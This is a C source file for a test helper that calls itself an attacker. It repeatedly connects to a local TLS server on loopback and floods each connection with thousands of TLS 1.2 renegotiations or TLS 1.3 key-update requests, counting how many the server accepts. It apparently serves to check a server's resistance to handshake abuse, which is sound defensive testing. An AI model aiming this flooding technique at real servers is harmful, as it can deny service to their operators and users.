/* SPDX-License-Identifier: Apache-2.0 */
/* An attacker for what Python's ssl module cannot say: TLS handshake messages on a connection that
 * is established. `abuse renegotiate|key-update PORT SECONDS` makes one connection after the other
 * and on each as many of them as the victim takes; prints "connections messages". */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define MESSAGES_MAX 20000 /* on one connection */

static int dial(int port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	struct timeval patience = {.tv_sec = 2};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		perror("connect");
		exit(1);
	}
	return fd;
}

/* Ask for a new handshake; true when the victim made one. */
static int renegotiate(SSL *ssl)
{
	return SSL_renegotiate(ssl) == 1 && SSL_do_handshake(ssl) == 1;
}

/* Change our key and demand that the victim changes its own, without listening to it. */
static int key_update(SSL *ssl)
{
	return SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) == 1 && SSL_do_handshake(ssl) == 1;
}

int main(int argc, char **argv)
{
	int tls12 = argc == 4 && strcmp(argv[1], "renegotiate") == 0;
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	unsigned long connections = 0, messages = 0;
	time_t end;

	if (argc != 4)
		return 2;
	signal(SIGPIPE, SIG_IGN);
	end = time(NULL) + atoi(argv[3]);
	SSL_CTX_set_max_proto_version(ctx, tls12 ? TLS1_2_VERSION : TLS1_3_VERSION);
	SSL_CTX_set_min_proto_version(ctx, tls12 ? TLS1_2_VERSION : TLS1_3_VERSION);
	while (time(NULL) < end) {
		SSL *ssl = SSL_new(ctx);
		int fd = dial(atoi(argv[2])), n = 0;

		SSL_set_fd(ssl, fd);
		if (SSL_connect(ssl) == 1) {
			connections++;
			while (n < MESSAGES_MAX && (tls12 ? renegotiate(ssl) : key_update(ssl)))
				n++;
			messages += (unsigned long)n;
		}
		SSL_free(ssl);
		ERR_clear_error();
		close(fd);
	}
	printf("%lu %lu\n", connections, messages);
	SSL_CTX_free(ctx);
	return 0;
}
